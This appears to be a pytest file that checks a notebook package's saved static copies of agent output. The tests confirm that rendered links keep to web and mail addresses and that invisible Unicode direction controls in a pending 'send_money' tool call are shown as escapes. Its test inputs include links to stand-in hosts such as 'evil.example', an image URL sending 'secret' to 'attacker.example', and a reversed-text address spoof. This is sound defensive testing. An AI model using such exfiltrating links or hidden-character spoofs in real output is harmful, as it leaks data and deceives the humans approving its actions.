"""Hostile text in the saved static copy: what the kernel renders must keep to the live view's
rules (js/src/views/markdown.ts), since a saved notebook shows it where no widget runs."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from anvia_notebook.notebook._markdown import render_markdown


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.urls += [v or "" for k, v in attrs if k in ("href", "src")]


def _urls(html: str) -> list[str]:
    parser = _Links()
    parser.feed(html)
    parser.close()
    return parser.urls


@pytest.mark.parametrize(
    "text",
    [
        "[open](/files/secret.txt)",
        "[open](../other.ipynb)",
        "[open](other.ipynb)",
        "[open](//evil.example/x)",
        "[open](?token=x)",
        "[open](#top)",
        "![chart](/files/secret.png)",
        "![chart](//evil.example/c.png)",
    ],
)
def test_model_links_point_only_to_web_and_mail_addresses(text: str):
    # The live view keeps a link only to http(s) or mailto (a relative address would open a
    # file of the server, or another notebook, from a saved copy); the static copy must agree.
    html = render_markdown(text)
    assert all(url.lower().startswith(("http:", "https:", "mailto:")) for url in _urls(html)), html
    assert "open" in html or "chart" in html  # the words stay


def test_web_links_and_images_stay_links():
    html = render_markdown(
        "[a](https://example.org/x) ![c](https://example.org/c.png) <mailto:a@b.c>"
    )
    assert _urls(html) == ["https://example.org/x", "https://example.org/c.png", "mailto:a@b.c"]
    # labelled as the live view labels them: the address alone read as a plain link
    assert ">Image: c</a>" in html and 'title="Image not loaded: https://example.org/c.png"' in html
    assert ">Image</a>" in render_markdown("![](https://attacker.example/?q=secret)")


#: Bidirectional and zero-width controls: they change how the text around them reads (U+202E
#: shows what follows backwards) while showing nothing themselves.
INVISIBLES = [
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200b",
    "\u200f",
    "\u061c",
    "\ufeff",
]


def _tool_waiting(arguments: str) -> dict:
    return {
        "entries": [
            {
                "kind": "tool",
                "id": "e1",
                "turn": 1,
                "tool_name": "send_money",
                "tool_call_id": "c1",
                "arguments": arguments,
                "status": "approval_required",
                "result": None,
                "is_error": False,
                "output": "",
                "approval": None,
                "question": None,
            }
        ],
        "status": {
            "state": "waiting",
            "turn": 1,
            "input_tokens": 0,
            "output_tokens": 0,
            "error": None,
            "agent_id": "bank",
        },
        "seq": 1,
    }


@pytest.mark.parametrize("char", INVISIBLES, ids=[f"U+{ord(c):04X}" for c in INVISIBLES])
def test_arguments_show_invisible_direction_controls_as_escapes(char: str):
    # A model may put U+202E in an argument ("to": "bob\u202emoc.live@" reads as an innocent
    # address): the copy shows the JSON escape, which means the same value, instead.
    import json

    from anvia_notebook.notebook._snapshot import render_html, render_text

    arguments = json.dumps({"to": f"bob{char}moc.evil@"}, ensure_ascii=False)
    for copy in (render_html(_tool_waiting(arguments)), render_text(_tool_waiting(arguments))):
        assert char not in copy
        assert f"\\u{ord(char):04x}" in copy
